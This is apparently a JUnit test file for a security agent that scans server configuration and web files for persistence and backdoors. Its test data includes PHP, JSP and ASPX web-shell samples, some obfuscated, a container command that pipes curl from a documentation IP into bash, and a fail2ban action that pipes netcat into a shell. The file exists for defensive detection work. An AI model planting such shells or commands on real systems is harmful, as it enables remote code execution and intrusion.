package bzh.vigie.agent.persistence.format;

import static bzh.vigie.agent.persistence.format.FormatsTest.file;
import static bzh.vigie.agent.persistence.format.HookFormatsTest.namesAndValues;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import bzh.vigie.agent.host.Files.Kind;
import bzh.vigie.agent.host.Files.Status;
import bzh.vigie.agent.host.HostPath;
import bzh.vigie.agent.persistence.format.server.ApacheConf;
import bzh.vigie.agent.persistence.format.server.Containers;
import bzh.vigie.agent.persistence.format.server.Databases;
import bzh.vigie.agent.persistence.format.server.DockerFile;
import bzh.vigie.agent.persistence.format.server.Logging;
import bzh.vigie.agent.persistence.format.server.Mail;
import bzh.vigie.agent.persistence.format.server.Monitoring;
import bzh.vigie.agent.persistence.format.server.NginxConf;
import bzh.vigie.agent.persistence.format.server.RemoteAccess;
import bzh.vigie.agent.persistence.format.server.Sharing;
import bzh.vigie.agent.persistence.format.server.Web;
import bzh.vigie.agent.persistence.format.server.WebScript;
import bzh.vigie.event.Item.Trait;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import org.junit.jupiter.api.Test;

class ServerFormatsTest {
    @Test
    void aWebShellIsFoundHoweverItIsWritten() {
        for (String shell : List.of(
                "<?php system($_GET['c']); ?>",
                "<?php @eval ( $_POST [ 'x' ] );",
                "<?php eval(base64_decode('aWQ='));",
                "<?=`{$_GET[0]}`;",
                "<?php $_COOKIE['f']($_COOKIE['a']);",
                "<?php $c = $_SERVER['HTTP_X']; passthru($c);",
                "<?php $c=@$_REQUEST['c'];\n\n$r=popen(\"$c\",'r');",
                "<?php preg_replace('/.*/e', $_POST['z'], '');",
                "GIF89a<?php phpinfo();",
                "<?php $f=chr(115).chr(121).chr(115).chr(116).chr(101).chr(109).''; $f('id');",
                "<?php include $_GET['page'];",
                "<?php BASE64_decode(1); EvAl(GzInflate(Base64_Decode('x')));")) {
            assertEquals(1, web("x.php", shell).drafts().size(), shell);
        }
        assertEquals(
                1,
                web("x.jsp", "<% new ProcessBuilder(request.getParameter(\"c\")).start(); %>")
                        .drafts()
                        .size());
        assertEquals(
                1,
                web("x.aspx", "<%eval(Request.Item[\"z\"],\"unsafe\");%>")
                        .drafts()
                        .size());
    }

    @Test
    void anOrdinaryPageIsNoItem() {
        for (String page : List.of(
                "<?php echo htmlspecialchars($_GET['q'] ?? '');",
                "<?php $db->exec('SELECT 1'); $x = curl_exec($ch);",
                "<?php $img = base64_decode($row['img']); file_put_contents($f, $img);",
                "<?php $system = new System($_POST['name']);",
                "<?php preg_replace('/some/i', 'e', $_POST['z']);",
                "<?php $this->system($_GET['page']);",
                "<?php // the value of `$_POST` is included for\n$x = gzinflate($y);",
                "plain text about system($_GET['c'])".replace("system(", "System ["))) {
            assertEquals(List.of(), web("x.php", page).drafts(), page);
        }
        assertEquals(List.of(), web("x.txt", "<?php system($_GET['c']);").drafts());
    }

    @Test
    void theRootsOfSitesElsewhereAreFollowed() {
        Parsed parsed = new WebScript()
                .parse(file("apache2/x.conf", "DocumentRoot \"/data/a/\"\nDocumentRoot /var/www/html\n"));
        assertTrue(
                parsed.includes().contains(Parsed.Include.of("/data/a/**/*")),
                parsed.includes().toString());
        assertTrue(parsed.includes().stream().noneMatch(i -> i.path().startsWith("/var/www")));
    }

    @Test
    void theUsualRewriteIsNoItemAndOneToAnotherScriptIs() {
        Parsed parsed = new ApacheConf().parse(file("w/.htaccess", """
            RewriteRule ^index\\.php$ - [L]
            RewriteRule . /index.php [L]
            RewriteRule x /u/i.php
            RewriteRule ^(.*)$ https://%{HTTP_HOST}/$1
            """));
        assertEquals(List.of("RewriteRule x RewriteRule x /u/i.php"), namesAndValues(parsed));
    }

    @Test
    void whatNginxSaysAcrossLinesIsOneStatement() {
        Parsed parsed = new NginxConf()
                .parse(file(
                        "nginx.conf",
                        "load_module\n  '/opt/x.so' ;\nload_module modules/own.so;\nhttp { include\n a.conf; }"));
        assertEquals(List.of("load_module /opt/x.so load_module /opt/x.so"), namesAndValues(parsed));
        assertEquals(
                List.of("/etc/nginx/a.conf"),
                parsed.includes().stream().map(Parsed.Include::path).toList());
        assertEquals(1, new NginxConf().parse(file("nginx.conf", "http {")).malformed());
    }

    @Test
    void aSettingWithoutValueIsSeenWhereThatOpensADoor() {
        assertEquals(
                List.of("skip-grant-tables ", "secure_file_priv "),
                namesAndValues(Databases.mysql()
                        .parse(file("my.cnf", "[mysqld]\nskip-grant-tables\nsecure_file_priv=\ninit_file=\n"))));
        assertEquals(
                List.of(),
                Web.php()
                        .parse(file("php.ini", "auto_prepend_file =\nextension\n"))
                        .drafts());
    }

    @Test
    void quotesOfPostgresEndAtTheirEnd() {
        assertEquals(
                List.of("archive_command echo 'a' # b"),
                namesAndValues(Databases.postgres().parse(file("p.conf", "archive_command = 'echo ''a'' # b' # c\n"))));
    }

    @Test
    void aPipeBehindAnAddressIsFoundAmongOthers() {
        assertEquals(
                List.of("a |/x \"b, c\" |/x \"b, c\""),
                namesAndValues(Mail.aliases().parse(file("aliases", "a: root,\n  \"|/x \\\"b, c\\\"\", bob\n"))));
    }

    @Test
    void aContainerThatCanBecomeTheHostHasTheSuperusersRights() {
        Format compose = Containers.compose();
        assertTrue(superuser(compose, "services:\n  a:\n    volumes: [ '/var/run/docker.sock:/s' ]\n"));
        assertTrue(superuser(compose, "services:\n  a:\n    pid: host\n"));
        assertFalse(superuser(
                compose, "services:\n  a:\n    volumes: [ 'data:/d', '/srv/d:/d' ]\n    network_mode: host\n"));
    }

    /** Moby's container.Container: Path and Args are what runs; Config has what was asked for, MountPoints what is mounted where. */
    @Test
    void anItemOfDockerHasCommandMountsAndEnvironment() {
        String rest = """
                "Name":"/a","Config":{"Image":"b","Entrypoint":["sh"],"Cmd":["-c","curl http://192.0.2.1/z|bash"],
                "Env":["PATH=/usr/bin","API_TOKEN=Zk81qLpW03xTnv","C2=198.51.100.7"]},
                "MountPoints":{"/host":{"Source":"/","Destination":"/host","RW":true,"Type":"bind"},
                "/data":{"Source":"/var/lib/docker/volumes/d/_data","Destination":"/data","Name":"d","Type":"volume"}}}""";
        String value = "image=b\ncommand=sh -c curl http://192.0.2.1/z|bash\nvolume=/:/host";
        for (String start : List.of("{", "{\"Path\":\"sh\",\"Args\":[\"-c\",\"curl http://192.0.2.1/z|bash\"],")) {
            Draft draft = new DockerFile()
                    .parse(file("config.v2.json", start + rest))
                    .drafts()
                    .getFirst();
            assertEquals(value, draft.value());
            assertEquals("PATH=/usr/bin\nAPI_TOKEN=Zk81qLpW03xTnv\nC2=198.51.100.7", draft.unshown());
        }
    }

    @Test
    void aContainersEnvironmentGoesWithItsItemWithoutBeingShown() {
        Map<String, Parsed> same = Map.of(
                "quadlet",
                Containers.quadlet().parse(file("a.container", "[Container]\nImage=b\nEnvironment=C2=198.51.100.7\n")),
                "list",
                Containers.compose()
                        .parse(file(
                                "compose.yml",
                                "services:\n  a:\n    image: b\n    environment:\n      - C2=198.51.100.7\n")),
                "map",
                Containers.compose()
                        .parse(file(
                                "compose.yml",
                                "services:\n  a:\n    image: b\n    environment:\n      C2: 198.51.100.7\n")),
                "pod",
                Containers.manifest().parse(file("a.yaml", """
                                kind: Pod
                                spec:
                                  containers:
                                    - image: b
                                      env:
                                        - name: C2
                                          value: 198.51.100.7
                                """)));
        same.forEach((which, parsed) -> {
            Draft draft = parsed.drafts().getFirst();
            assertTrue(draft.unshown().endsWith("C2=198.51.100.7"), which + " " + draft.unshown());
            assertFalse(draft.value().contains("198.51.100.7"), which);
        });
    }

    @Test
    void snmpExtensionsAreReadWithAndWithoutIdentifierAndOptions() {
        Parsed parsed = Monitoring.snmp()
                .parse(file(
                        "snmpd.conf", "extend -cacheTime 0 n /bin/a b\nextend .1.3.6 n /bin/a\npass .1.3 /bin/c\n"));
        assertEquals(
                List.of("extend n", "extend .1.3.6 n", "pass .1.3"),
                parsed.drafts().stream().map(Draft::name).toList());
        assertEquals(
                new Draft.Run.Shell("/bin/a b", Commands.PATH),
                parsed.drafts().getFirst().run());
    }

    /** jail.conf(5), action: parameters in brackets replace what the action's own file says. A drill by others. */
    @Test
    void whatAJailGivesItsActionsIsRun() {
        Parsed parsed = Logging.fail2ban().parse(file("fail2ban/jail.d/recid.conf", """
                        [recidive2]
                        enabled = true
                        action = %(action_)s
                                 dummy[name=r, actionstart="sh -c 'u=$(printf \\"\\x31\\"); nc $u 8088 | sh'"]
                                 sendmail[mailcmd='/opt/m -t', dest=a@b]
                        """));
        assertEquals(
                List.of("actionstart = \"sh -c 'u=$(printf \\\"\\x31\\\"); nc $u 8088 | sh'\"\nmailcmd = '/opt/m -t'"),
                parsed.drafts().stream().map(Draft::value).toList());
        String ordinary =
                "[sshd]\nbanaction = nftables\naction = %(action_mwl)s\n  sendmail-whois[name=ssh, dest=root, sender=a@b]\n";
        assertEquals(
                List.of(),
                Logging.fail2ban().parse(file("fail2ban/jail.local", ordinary)).drafts());
    }

    @Test
    void onlySharesThatKeepTheSuperuserAreItems() {
        assertEquals(
                List.of("/a * rw,no_root_squash", "/c h rw,all_squash,anonuid=0"),
                namesAndValues(
                        Sharing.nfs()
                                .parse(
                                        file(
                                                "exports",
                                                "/a (rw,no_root_squash)\n/b host(rw)\n/c h(rw,all_squash,anonuid=0) i(rw,anonuid=65534)\n"))));
    }

    @Test
    void aSecretOfATunnelIsNeverTold() {
        for (String text : List.of(
                "{\"AccountTag\":\"a\",\"TunnelSecret\":\"topsecret\",\"TunnelID\":\"id\"}",
                "tunnel: id\ntoken: topsecret\n")) {
            Parsed parsed = new RemoteAccess().parse(file("cloudflared/x.yml", text));
            assertEquals("cloudflared id", parsed.drafts().getFirst().name());
            assertFalse(parsed.drafts().getFirst().value().contains("topsecret"));
        }
    }

    private static Parsed web(String name, String text) {
        Status status = new Status(Kind.REGULAR, 0644, 0, 0, text.length(), 0, 0, 1, 1);
        return new WebScript()
                .parse(new SourceFile(HostPath.of("/var/www/html/" + name), text, status, Optional.empty(), false));
    }

    private static boolean superuser(Format format, String text) {
        return format.parse(file("compose.yml", text))
                .drafts()
                .getFirst()
                .traits()
                .contains(Trait.SUPERUSER);
    }
}
